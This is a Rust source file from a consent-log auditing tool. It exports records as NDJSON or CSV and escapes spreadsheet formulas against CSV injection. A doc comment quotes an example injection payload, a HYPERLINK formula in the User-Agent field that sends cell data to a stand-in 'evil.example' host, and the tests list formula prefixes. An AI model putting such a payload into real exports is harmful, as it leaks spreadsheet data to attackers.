//! The auditor's export: its formats and [`write`], the one export path of
//! the HTTP export and `crumb export`.
//!
//! NDJSON: one record per line, exactly the stored canonical bytes with
//! `,"hash":"…"}` appended, so `crumb verify` can hash the very bytes that
//! were hashed when the record was written. CSV: one row per record, the
//! same fields, list fields space-separated, quoted per RFC 4180 by the
//! `csv` crate; a text cell that a spreadsheet would run as a formula
//! starts with `'` (see [`inert`]).
//!
//! The texts a site's records name go with an export as NDJSON too
//! ([`TextsLine`]), so that an auditor can check offline what each
//! record's `text_hash` says the visitor was shown.

use std::borrow::Cow;
use std::io::Write;

use crumb_schema::SiteId;
use time::{Date, OffsetDateTime, macros::format_description};

use crate::storage::{Store, StoreError, TimeRange};
use crate::timefmt;
use crate::timefmt::Timestamp;

/// One kept version of a site's texts, a line of
/// `GET /v1/audit/sites/{site}/texts`: `texts` is the exact string whose
/// SHA-256 is `text_hash` (see `crate::sites::Notice`).
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(deny_unknown_fields)]
pub struct TextsLine {
    pub site_id: SiteId,
    pub text_hash: crumb_schema::TextHash,
    pub language: crumb_schema::LanguageTag,
    /// When the log first kept this version.
    pub first_seen: Timestamp,
    pub texts: String,
}

/// Writes every kept version of `site`'s texts, oldest first, one
/// [`TextsLine`] per line; returns how many.
pub fn write_texts(
    store: &dyn Store,
    site: &SiteId,
    out: &mut dyn Write,
) -> Result<usize, ExportError> {
    let mut n = 0;
    for (id, notice, first_seen) in store.kept_notices(Some(site))? {
        let line = TextsLine {
            site_id: id,
            text_hash: notice.text_hash,
            language: notice.language,
            first_seen,
            texts: notice.texts,
        };
        serde_json::to_writer(&mut *out, &line).map_err(std::io::Error::from)?;
        out.write_all(b"\n")?;
        n += 1;
    }
    Ok(n)
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Ndjson,
    Csv,
}

impl Format {
    /// `ndjson` or `csv`, in any letter case (`CSV` is how people write it).
    pub fn parse(s: &str) -> Option<Format> {
        match s.to_ascii_lowercase().as_str() {
            "ndjson" => Some(Format::Ndjson),
            "csv" => Some(Format::Csv),
            _ => None,
        }
    }

    pub fn content_type(self) -> &'static str {
        match self {
            Format::Ndjson => "application/x-ndjson",
            Format::Csv => "text/csv; charset=utf-8",
        }
    }

    pub fn extension(self) -> &'static str {
        match self {
            Format::Ndjson => "ndjson",
            Format::Csv => "csv",
        }
    }
}

/// The CSV columns, in record order, with the hash last.
pub const CSV_COLUMNS: [&str; 21] = [
    "seq",
    "record_id",
    "site_id",
    "consent_id",
    "event",
    "event_time",
    "expires_at",
    "policy_revision",
    "policy_url",
    "language",
    "text_hash",
    "method",
    "categories_granted",
    "categories_denied",
    "services_granted",
    "services_denied",
    "user_agent",
    "ip_network",
    "prev_hash",
    "hash",
    "gpc",
];

/// A stored record's fields as text, borrowed from the canonical JSON
/// where no unescaping is needed: the CSV export only copies them out, and
/// parsing into owned, validated types cost a third of its time. (Stored
/// records were validated when written; `crumb verify` checks them fully.)
#[derive(serde::Deserialize)]
struct RecordView<'a> {
    seq: u64,
    #[serde(borrow)]
    record_id: Cow<'a, str>,
    #[serde(borrow)]
    site_id: Cow<'a, str>,
    #[serde(borrow)]
    consent_id: Cow<'a, str>,
    #[serde(borrow)]
    event: Cow<'a, str>,
    #[serde(borrow)]
    event_time: Cow<'a, str>,
    #[serde(borrow)]
    expires_at: Cow<'a, str>,
    policy_revision: u64,
    #[serde(borrow)]
    policy_url: Cow<'a, str>,
    #[serde(borrow)]
    language: Cow<'a, str>,
    #[serde(borrow)]
    text_hash: Cow<'a, str>,
    #[serde(borrow)]
    method: Cow<'a, str>,
    #[serde(borrow)]
    categories_granted: Vec<Cow<'a, str>>,
    #[serde(borrow)]
    categories_denied: Vec<Cow<'a, str>>,
    #[serde(borrow)]
    services_granted: Vec<Cow<'a, str>>,
    #[serde(borrow)]
    services_denied: Vec<Cow<'a, str>>,
    #[serde(borrow)]
    user_agent: Cow<'a, str>,
    #[serde(borrow)]
    ip_network: Cow<'a, str>,
    #[serde(borrow)]
    prev_hash: Cow<'a, str>,
    #[serde(default)]
    gpc: bool,
}

/// Appends one NDJSON line for a stored record.
pub fn ndjson_line(canonical: &str, hash: &str, out: &mut Vec<u8>) {
    let body = canonical.strip_suffix('}').unwrap_or(canonical);
    out.extend_from_slice(body.as_bytes());
    out.extend_from_slice(b",\"hash\":\"");
    out.extend_from_slice(hash.as_bytes());
    out.extend_from_slice(b"\"}\n");
}

#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error("a stored record is not valid: {0}")]
    Corrupt(#[from] serde_json::Error),
    #[error("CSV encoding failed: {0}")]
    Csv(#[from] csv::Error),
    #[error("cannot read the log: {0}")]
    Store(#[from] StoreError),
    #[error("cannot write the export: {0}")]
    Io(#[from] std::io::Error),
    #[error("the export's writer thread stopped")]
    WriterStopped,
}

/// Writes `site`'s records in `range` to `out` as `format`, oldest first,
/// calling `progress` once per record; returns how many. Reads one
/// snapshot of the log (`Store::for_each_record`), in constant memory.
///
/// NDJSON lines are the stored bytes plus the hash: cheaper to write
/// straight away than to hand to another thread. CSV takes two threads:
/// this one reads the store, the other parses, formats and writes, in
/// chunks over a short queue (which also bounds the memory).
pub fn write(
    store: &dyn Store,
    site: &SiteId,
    range: &TimeRange,
    format: Format,
    out: &mut (dyn Write + Send),
    progress: &(dyn Fn() + Sync),
) -> Result<u64, ExportError> {
    match format {
        Format::Ndjson => write_ndjson(store, site, range, out, progress),
        Format::Csv => write_csv(store, site, range, out, progress),
    }
}

fn write_ndjson(
    store: &dyn Store,
    site: &SiteId,
    range: &TimeRange,
    out: &mut (dyn Write + Send),
    progress: &(dyn Fn() + Sync),
) -> Result<u64, ExportError> {
    let mut buf = Vec::with_capacity(128 * 1024);
    let mut failed = None;
    let n = store.for_each_record(Some(site), range, &mut |body, hash| {
        ndjson_line(body, hash, &mut buf);
        progress();
        if buf.len() >= 64 * 1024 {
            if let Err(e) = out.write_all(&buf) {
                failed = Some(e);
                return false;
            }
            buf.clear();
        }
        true
    })?;
    if let Some(e) = failed {
        return Err(e.into());
    }
    out.write_all(&buf)?;
    out.flush()?;
    Ok(n)
}

fn write_csv(
    store: &dyn Store,
    site: &SiteId,
    range: &TimeRange,
    out: &mut (dyn Write + Send),
    progress: &(dyn Fn() + Sync),
) -> Result<u64, ExportError> {
    const CHUNK: usize = 1024;
    let (tx, rx) = std::sync::mpsc::sync_channel::<Vec<(String, String)>>(8);
    std::thread::scope(|s| {
        let writer = s.spawn(move || -> Result<(), ExportError> {
            let mut exporter = Exporter::new(Format::Csv)?;
            for chunk in rx {
                for (body, hash) in &chunk {
                    exporter.push(body, hash)?;
                }
                if exporter.buffered() >= 64 * 1024 {
                    out.write_all(&exporter.take())?;
                }
            }
            out.write_all(&exporter.take())?;
            out.flush()?;
            Ok(())
        });
        let mut chunk = Vec::with_capacity(CHUNK);
        let read = store.for_each_record(Some(site), range, &mut |body, hash| {
            chunk.push((body.to_owned(), hash.to_owned()));
            progress();
            // A failed send means the writer stopped; its error says why.
            chunk.len() < CHUNK
                || tx
                    .send(std::mem::replace(&mut chunk, Vec::with_capacity(CHUNK)))
                    .is_ok()
        });
        let last = tx.send(chunk);
        drop(tx);
        writer.join().unwrap_or(Err(ExportError::WriterStopped))?;
        last.map_err(|_| ExportError::WriterStopped)?;
        Ok(read?)
    })
}

/// Turns stored records into export bytes, buffering until [`take`]n.
///
/// [`take`]: Exporter::take
pub struct Exporter {
    format: Format,
    /// NDJSON output, and CSV output already taken out of the writer.
    buf: Vec<u8>,
    csv: csv::Writer<Vec<u8>>,
}

impl Exporter {
    pub fn new(format: Format) -> Result<Self, ExportError> {
        let mut csv = csv::Writer::from_writer(Vec::new());
        if format == Format::Csv {
            csv.write_record(CSV_COLUMNS)?;
        }
        Ok(Self {
            format,
            buf: Vec::with_capacity(64 * 1024),
            csv,
        })
    }

    /// Moves what the CSV writer holds into `buf`.
    fn drain_csv(&mut self) {
        if self.format == Format::Csv {
            let writer = std::mem::replace(&mut self.csv, csv::Writer::from_writer(Vec::new()));
            // Writing into a Vec cannot fail, so into_inner cannot either.
            if let Ok(bytes) = writer.into_inner() {
                self.buf.extend_from_slice(&bytes);
            }
        }
    }

    pub fn push(&mut self, canonical: &str, hash: &str) -> Result<(), ExportError> {
        match self.format {
            Format::Ndjson => ndjson_line(canonical, hash, &mut self.buf),
            Format::Csv => {
                let b: RecordView<'_> = serde_json::from_str(canonical)?;
                let list = |v: &[Cow<'_, str>]| v.join(" ");
                self.csv.write_record([
                    b.seq.to_string().as_str(),
                    &b.record_id,
                    &b.site_id,
                    &b.consent_id,
                    &b.event,
                    &b.event_time,
                    &b.expires_at,
                    &b.policy_revision.to_string(),
                    &inert(&b.policy_url),
                    &b.language,
                    &b.text_hash,
                    &b.method,
                    &list(&b.categories_granted),
                    &list(&b.categories_denied),
                    &list(&b.services_granted),
                    &list(&b.services_denied),
                    &inert(&b.user_agent),
                    &b.ip_network,
                    &b.prev_hash,
                    hash,
                    if b.gpc { "true" } else { "false" },
                ])?;
            }
        }
        Ok(())
    }

    /// Bytes buffered so far (CSV rows are counted once 64 KiB are held
    /// by the writer's own buffer or when taken).
    pub fn buffered(&self) -> usize {
        self.buf.len() + self.csv.get_ref().len()
    }

    /// Takes the buffered bytes.
    pub fn take(&mut self) -> Vec<u8> {
        self.drain_csv();
        std::mem::take(&mut self.buf)
    }
}

/// Parses one end of a range: a date (`2026-01-31`, midnight UTC) or an
/// RFC 3339 instant.
fn parse_instant(s: &str) -> Result<OffsetDateTime, String> {
    if let Ok(d) = Date::parse(s, format_description!("[year]-[month]-[day]")) {
        return Ok(d.midnight().assume_utc());
    }
    if let Ok(t) = timefmt::parse(s) {
        return Ok(t);
    }
    // A `+` written unencoded in a query string arrives as a space
    // (`?from=2026-01-31T12:00:00+01:00`, as typed into curl), and an
    // offset is the only place an RFC 3339 time has one.
    let offset = s
        .len()
        .checked_sub(6)
        .filter(|&i| s.get(i..=i) == Some(" "));
    if let Some(i) = offset
        && let Ok(t) = timefmt::parse(&format!("{}+{}", &s[..i], &s[i + 1..]))
    {
        return Ok(t);
    }
    Err(format!(
        "{s:?} is not a date (2026-01-31) or an RFC 3339 time (2026-01-31T12:00:00Z)"
    ))
}

/// The range `from <= event_time < to`; either end may be open.
pub fn parse_range(from: Option<&str>, to: Option<&str>) -> Result<TimeRange, String> {
    let mut range = TimeRange::all();
    if let Some(f) = from.filter(|s| !s.is_empty()) {
        range.from = Some(Timestamp::at(parse_instant(f)?));
    }
    if let Some(t) = to.filter(|s| !s.is_empty()) {
        range.to = Some(Timestamp::at(parse_instant(t)?));
    }
    if let (Some(from), Some(to)) = (range.from, range.to)
        && from > to
    {
        return Err("`from` is after `to`".into());
    }
    Ok(range)
}

/// A CSV cell as a spreadsheet will not run it. A visitor's browser
/// chooses its own user agent, so a request sent with `User-Agent:
/// =HYPERLINK("https://evil.example/?"&A1)` would put a formula in the
/// auditor's spreadsheet (CSV injection); a cell that starts with `=`,
/// `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, which
/// spreadsheets read as "text" (OWASP's advice). The NDJSON export, which
/// `crumb verify` checks, keeps every byte as stored.
fn inert(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_cells_that_would_run_as_formulas_are_made_text() {
        for formula in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"] {
            assert_eq!(inert(formula), format!("'{formula}"));
        }
        for plain in ["Mozilla/5.0 (X11; Linux x86_64)", "", "curl/8 =x"] {
            assert_eq!(inert(plain), plain);
        }
    }

    #[test]
    fn ranges_accept_dates_and_instants() {
        let r = parse_range(Some("2026-01-31"), Some("2026-02-01T12:30:00+01:00")).unwrap();
        assert_eq!(r.column_bounds().0, "2026-01-31T00:00:00.000Z");
        assert_eq!(r.column_bounds().1, "2026-02-01T11:30:00.000Z");
        assert_eq!(parse_range(None, None).unwrap(), TimeRange::all());
        assert!(parse_range(Some("yesterday"), None).is_err());
        assert!(parse_range(Some("2026-02-01"), Some("2026-01-01")).is_err());
        // The offset's `+` as an unencoded query string delivers it.
        let r = parse_range(Some("2026-02-01T12:30:00 01:00"), None).unwrap();
        assert_eq!(r.column_bounds().0, "2026-02-01T11:30:00.000Z");
        assert!(parse_range(Some("2026-02-01T12:30:00 1:00"), None).is_err());
    }

    #[test]
    fn ndjson_line_appends_the_hash() {
        let mut out = Vec::new();
        ndjson_line(r#"{"seq":1}"#, "ab", &mut out);
        assert_eq!(out, b"{\"seq\":1,\"hash\":\"ab\"}\n");
    }
}
